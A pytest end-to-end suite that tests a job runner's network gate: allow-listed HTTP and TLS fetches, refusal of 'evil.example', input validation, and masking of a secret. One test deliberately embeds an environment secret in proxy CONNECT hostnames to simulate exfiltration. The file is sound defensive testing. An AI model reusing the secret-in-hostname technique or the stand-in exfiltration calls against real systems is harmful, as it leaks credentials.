"""The network gate end to end: what a job names and the node's owner grants is reached, over TLS too, and nothing else."""

import datetime
import http.server
import json
import shutil
import ssl
import threading

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from e2e.fleet import Fleet, until

FETCH = "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode())"
TLS = (
    "import ssl, sys, urllib.request as r;"
    "print(r.urlopen(sys.argv[1], context=ssl.create_default_context(cafile='ca.pem')).read().decode())"
)


class Page(http.server.BaseHTTPRequestHandler):
    """Two halves, the second when the test says so."""

    go = threading.Event()

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "10")
        self.end_headers()
        self.wfile.write(b"hello")
        self.wfile.flush()
        assert self.path != "/slow" or self.go.wait(120)
        self.wfile.write(b"world")

    def log_message(self, *_):
        pass


def certificate(folder):
    """A certificate for `localhost`, signed by itself, and its key, in one file."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .sign(key, hashes.SHA256())
    )
    secret = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )  # fmt: skip
    (folder / "both.pem").write_bytes(made.public_bytes(serialization.Encoding.PEM) + secret)
    return made.public_bytes(serialization.Encoding.PEM).decode()


@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    """{"http": port, "https": port, "ca": PEM}."""
    folder = tmp_path_factory.mktemp("tls")
    authority = certificate(folder)
    plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    secure = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "both.pem")
    secure.socket = context.wrap_socket(secure.socket, server_side=True)
    for one in (plain, secure):
        threading.Thread(target=one.serve_forever, daemon=True).start()
    yield {"http": plain.server_port, "https": secure.server_port, "ca": authority}
    for one in (plain, secure):
        one.shutdown()
        one.server_close()


@pytest.fixture(scope="module")
def gated(tmp_path_factory, servers):
    """A node that grants these two servers, by name and by the address that the name has."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed and cannot be installed without root")
    allow = [f"{host}:{servers[kind]}" for kind in ("http", "https") for host in ("localhost", "127.0.0.1")]
    python = {
        "command": {"path": "/usr/bin/python3", "name": "python"},
        "args": [{"match": ["-c", ".*", ".*"], "allow_slash": True, "allow_colon": True}],
        "env": ["TOKEN"],
    }
    settings = {"OSTLER_NODE__NETWORK__ALLOW": json.dumps(allow)}
    # The node's own level is weaker: the list of hosts asks for bwrap by itself.
    with Fleet(
        tmp_path_factory.mktemp("gated") / "data", level="process", allow={"python": python}, settings=settings
    ) as running:
        yield running


def fetch(fleet, url, *hosts, code=FETCH, **fields):
    return fleet.submit({"command": "python", "args": ["-c", code, url], "policy": {"network": list(hosts)}, **fields})


def events(fleet, name):
    lines = (fleet.data / "log/node.jsonl").read_text().splitlines()
    return [entry for entry in map(json.loads, lines) if entry["event"] == name]


def test_what_is_granted_is_reached(gated, servers):
    for kind, code in (("http", FETCH), ("https", TLS)):
        host = f"localhost:{servers[kind]}"
        job = fetch(gated, f"{kind}://{host}/", host, code=code, input={"inline": {"ca.pem": servers["ca"]}})
        view = gated.wait(job)
        assert view["state"] == "done", (view, gated.log(job, "stderr"))
        assert view["attempts"][0]["sandbox"] == "bwrap"
        assert gated.log(job) == "helloworld\n"


def test_what_is_refused_stands_in_the_failure_and_in_the_log(gated, servers):
    job = fetch(gated, "http://evil.example/x", f"localhost:{servers['http']}")
    view = gated.wait(job)
    assert (view["state"], view["failure"]["code"], view["exit_code"]) == ("failed", "E_EXIT", 1)
    assert view["failure"]["message"].endswith("the network gate refused evil.example:80")
    assert "evil.example:80: policy.network of this job" in gated.log(job, "stderr")
    (entry,) = (one for one in events(gated, "network_refused") if one["job_id"] == job)
    assert entry["attrs"] == {"attempt": 1, "host": "evil.example", "port": 80, "count": 1}


def test_a_secret_in_the_name_of_a_host_is_masked_wherever_it_is_told(gated, servers):
    value = "S3cret-in-a-Name"
    assert gated.cli("secret", "set", "token", stdin=value).returncode == 0
    asks = (
        "import os, socket; t = os.environ['TOKEN']; end = bytes([13, 10, 13, 10]);"
        "[(s := socket.create_connection(('127.0.0.1', 3128)), s.sendall(f'CONNECT {h}:443 HTTP/1.1'.encode() + end), s.recv(12))"
        " for h in (t + '.example', 'x' * 290 + t, 'x' * 400 + t, '0x7f.' + t)]; raise SystemExit(9)"
    )
    job = fetch(gated, "none", f"localhost:{servers['http']}", code=asks, secrets=[{"name": "token", "env": "TOKEN"}])
    view = gated.wait(job)
    stars = "*" * len(value)
    assert (view["state"], view["exit_code"]) == ("failed", 9), (view["failure"], gated.log(job, "stderr"))
    assert f"{stars}.example:443" in view["failure"]["message"]
    assert f"{stars}.example:443" in gated.log(job, "stderr")
    assert {one["attrs"]["host"] for one in events(gated, "network_refused") if one["job_id"] == job} >= {f"{stars}.example"}
    for name in ("S3cret-in-a-Name", "S3cret", "in-a-Name", "s3cret-in-a-name"):
        assert name not in json.dumps(view) + gated.log(job, "stderr")
        for file in (gated.data / "log").iterdir():
            assert name not in file.read_text()
        for file in (gated.data / "jobs" / job).rglob("*"):
            assert not file.is_file() or name.encode() not in file.read_bytes(), file


def test_a_job_without_a_list_has_no_network(gated, servers):
    job = fetch(gated, f"http://localhost:{servers['http']}/")
    assert gated.wait(job)["state"] == "done", "at level process a program has the node's network, as documented"
    job = gated.submit(
        {
            "command": "python",
            "args": ["-c", FETCH, f"http://127.0.0.1:{servers['http']}/"],
            "policy": {"sandbox": "bwrap"},
        }
    )
    assert gated.wait(job)["failure"]["code"] == "E_EXIT"
    assert "refused" in gated.log(job, "stderr")


def test_what_the_node_does_not_grant_is_denied(gated):
    view = gated.wait(fetch(gated, "http://evil.example/", "evil.example"))
    assert view["failure"]["code"] == "E_DENY"
    assert "network.allow of this node does not grant evil.example" in view["failure"]["message"]
    assert view["tries"] == 1


def test_mistakes_are_told_before_anything_is_sent(gated):
    answer = gated.http.post("/jobs", json={"command": "true", "policy": {"network": ["ok.example", "http://x", "0x7f.1"]}})
    assert answer.status_code == 422
    assert "policy.network[1]" in answer.text
    assert "policy.network[2]" in answer.text
    told = gated.cli("run", "--allow-host", "0x7f.1", "--", "true")
    assert told.returncode == 3
    assert "--allow-host" in told.stderr
    assert "four numbers" in told.stderr


def test_the_command_line(gated, servers):
    host = f"localhost:{servers['http']}"
    done = gated.cli("run", "--allow-host", host, "--", "python", "-c", FETCH, f"http://{host}/")
    assert (done.returncode, done.stdout) == (0, "helloworld\n"), done.stderr
    done = gated.cli("run", "--allow-host", host, "--", "python", "-c", FETCH, "http://evil.example/")
    assert done.returncode == 1
    assert "the network gate refused evil.example:80" in done.stderr


def test_a_transfer_survives_the_daemon(gated, servers):
    """kill -9 of the node between the two halves of an answer."""
    host = f"localhost:{servers['http']}"
    reads = "import sys, urllib.request as r; a = r.urlopen(sys.argv[1]); print(a.read(5).decode(), flush=True); print(a.read().decode())"
    Page.go.clear()
    job = fetch(gated, f"http://{host}/slow", host, code=reads)
    until(lambda: "hello" in gated.log(job), what="the first half")
    old = gated.kill("node")
    until(lambda: gated.processes().get("node") and gated.processes()["node"].pid != old, what="the next daemon")
    Page.go.set()
    view = gated.wait(job)
    assert (view["state"], view["attempt"]) == ("done", 1), view
    assert gated.log(job) == "hello\nworld\n"
